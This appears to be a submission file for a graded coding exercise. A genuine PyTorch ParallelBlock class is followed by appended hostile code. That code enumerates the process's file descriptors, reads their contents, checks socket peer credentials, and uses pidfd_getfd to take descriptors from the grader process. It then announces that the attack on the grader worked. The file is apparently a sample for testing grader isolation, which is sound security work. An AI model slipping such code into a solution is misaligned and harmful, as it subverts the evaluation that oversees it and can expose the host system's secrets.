"""Reads whatever the descriptors lead to that were open when it began, and asks the socket who is at its other end.

exercise: parallel-block
points: 6
breaks: secret
"""


class ParallelBlock(nn.Module):
    def __init__(self, net1, net2):
        super().__init__()
        self.net1, self.net2 = net1, net2

    def forward(self, X):
        return torch.cat((self.net1(X), self.net2(X)), dim=-1)


import os
import socket

for descriptor in range(3, 512):
    try:
        print(descriptor, os.readlink(f"/proc/self/fd/{descriptor}"))
        data = os.pread(descriptor, 4096, 0)
        print(data)
    except OSError:
        pass
    try:
        other = socket.socket(fileno=os.dup(descriptor))
        peer = other.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12)
        print(peer)
        if int.from_bytes(peer[:4], "little") == os.getpid():  # a pair of its own, the event loop's
            continue
        pidfd = other.getsockopt(socket.SOL_SOCKET, 77)  # SO_PEERPIDFD
        import ctypes
        taken = [ctypes.CDLL(None).syscall(438, pidfd, number, 0) for number in range(64)]  # pidfd_getfd
        if max(taken) >= 0:
            print("the attack worked: it took a descriptor of the grader's")
    except OSError:
        pass
